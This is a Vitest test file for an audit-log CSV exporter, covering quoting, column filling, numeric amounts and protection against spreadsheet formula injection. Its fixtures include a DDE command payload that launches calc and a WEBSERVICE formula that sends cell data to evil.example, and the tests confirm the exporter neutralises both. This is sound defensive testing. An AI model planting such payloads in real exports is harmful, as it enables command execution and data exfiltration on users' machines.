import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvHeader, csvRows, csvUnreadableRow } from '../../lib/audit/csv';
import type { AuditEntry } from '../../lib/audit/entry';
import { formulaCells, parseCsv, recoverText } from '../support/csv';
import { entry } from './fixtures';

/** A whole export as the log writes it, page by page: the header, then each entry's line. */
const toCsv = (entries: readonly AuditEntry[]) => csvHeader() + csvRows(entries).join('');

describe('CSV export (RFC 4180)', () => {
  it('quotes fields with commas, quotes and line breaks; doubles quotes; CRLF rows', () => {
    const csv = toCsv([entry()]);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines[1]).toContain('"Acme, ""The"" Company"');
    expect(lines[1]).toContain('"{""Id"":""129"",""SyncToken"":""2"",""PrivateNote"":""line1\\nline2""}"');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(
      lines[1]?.startsWith('2026-01-15T09:00:00.000Z,9130350000000001,sandbox,Invoice,129,1032,2025-03-01,300.00,'),
    ).toBe(true);
    const { rows, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(rows.map((r) => r.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
  });

  it('guards against formula injection: = + - @ (and tab/CR) at a field’s start get a leading apostrophe', () => {
    const csv = toCsv([entry({ party: "=cmd|' /C calc'!A0", docNumber: '@1', faultMessage: '+1+2', amount: -5 })]);
    expect(csv).toContain(",'@1,");
    expect(csv).toContain(",'=cmd|' /C calc'!A0,");
    expect(csv).toContain(",'+1+2,");
    expect(csv).toContain(',-5.00,');
  });
});

describe('CSV export in comma and semicolon locales (issue 18)', () => {
  const hostile = entry({
    party: 'Acme;=WEBSERVICE("https://evil.example/?"&A1)',
    docNumber: 'INV-1;@SUM(A1)',
    faultMessage: 'Refused\n-1+1',
    amount: -120.5,
    preDeleteJson: {
      Id: '129',
      PrivateNote: 'x;=1+1',
      CustomerMemo: { value: 'x,@SUM(A1)' },
      Line: [{ Amount: -120.5, Description: '\t=1' }],
    },
  });

  it('no cell opens a formula whether the spreadsheet splits on `,`, `;` or tab, with or without quotes', () => {
    expect(formulaCells(toCsv([hostile, entry()]))).toEqual([]);
  });

  it('the JSON column, memos `x;=1+1` and `x,@SUM(A1)` included, parses back to the record', () => {
    const { rows, errors } = parseCsv(toCsv([hostile]));
    expect(errors).toEqual([]);
    const json = rows[1]![CSV_COLUMNS.indexOf('preDeleteJson')]!;
    expect(json).toContain(`"x;'=1+1"`);
    expect(json).toContain(`"x,'@SUM(A1)"`);
    expect(JSON.parse(recoverText(json))).toEqual(hostile.preDeleteJson);
    expect(recoverText(rows[1]![CSV_COLUMNS.indexOf('party')]!)).toBe(hostile.party);
  });

  it('an amount of -120.5 stays a number cell, with its two decimals', () => {
    const { rows } = parseCsv(toCsv([hostile]));
    expect(rows[1]![CSV_COLUMNS.indexOf('amount')]).toBe('-120.50');
    expect(toCsv([hostile])).toContain(',-120.50,');
  });

  it('an unreadable entry’s stored value goes through the same writer', () => {
    const stored = { uid: 'broken', entry: { party: 'x;=1+1', memo: 'x,@SUM(A1)' } };
    const line = csvUnreadableRow(stored);
    expect(formulaCells(line)).toEqual([]);
    const { rows, errors } = parseCsv(line);
    expect(errors).toEqual([]);
    expect(rows[0]![CSV_COLUMNS.indexOf('outcome')]).toBe('unreadable entry');
    expect(JSON.parse(recoverText(rows[0]![CSV_COLUMNS.indexOf('preDeleteJson')]!))).toEqual(stored);
  });
});

/* Edge cases of lib/audit/csv.ts (issue 13): every column filled, numbers stay numeric. */

/** The cells of the first data row by column name (the test values hold no comma or quote). */
function cells(e: AuditEntry): Record<string, string> {
  const line = csvRows([e])[0]!.split('\r\n')[0]!;
  const values = line.split(',');
  expect(values).toHaveLength(CSV_COLUMNS.length);
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, values[i]!]));
}

const plain = {
  party: 'Acme',
  preDeleteJson: {},
};

describe('CSV columns', () => {
  it('fills currency, the fault code and message, and intuit_tid', () => {
    const row = cells(
      entry({
        ...plain,
        amount: -120.55,
        currency: 'EUR',
        outcome: 'refused',
        outcomeLabel: 'Refused',
        faultCode: '6540',
        faultMessage: 'Deposited Transaction cannot be changed',
        intuitTid: '1-abc-2',
      }),
    );
    expect(row).toMatchObject({
      amount: '-120.55',
      currency: 'EUR',
      party: 'Acme',
      syncToken: '2',
      outcome: 'Refused',
      faultCode: '6540',
      faultMessage: 'Deposited Transaction cannot be changed',
      intuit_tid: '1-abc-2',
      jobId: 'job1',
      docNumber: '1032',
      txnDate: '2025-03-01',
    });
  });

  it('leaves absent optional fields empty (never "undefined")', () => {
    const row = cells(
      entry({
        ...plain,
        docNumber: undefined,
        txnDate: undefined,
        amount: undefined,
        currency: undefined,
        party: undefined,
        faultCode: undefined,
        faultMessage: undefined,
        intuitTid: undefined,
      }),
    );
    for (const c of ['docNumber', 'txnDate', 'amount', 'currency', 'party', 'faultCode', 'faultMessage', 'intuit_tid'])
      expect(row[c], c).toBe('');
  });
});

describe('numbers stay numeric', () => {
  it.each([
    [-120.55, '-120.55'],
    [120.55, '120.55'],
    [-120, '-120.00'],
    [0, '0.00'],
    [-0.01, '-0.01'],
    [97199.1, '97199.10'],
  ])('an amount of %s is a number cell with two decimals: %s', (n, cell) => {
    expect(cells(entry({ ...plain, amount: n })).amount).toBe(cell);
  });
  it.each(['-120.55', '120.55', '-120', '0', '-0.01'])('a text that is a plain number (%s) is left alone', (n) => {
    expect(cells(entry({ ...plain, docNumber: n })).docNumber).toBe(n);
  });
  it('a formula that starts like a number is still guarded', () => {
    for (const t of ['-120.55+1', '-120.', '-.5', '--1'])
      expect(cells(entry({ ...plain, party: t })).party).toBe(`'${t}`);
  });
});
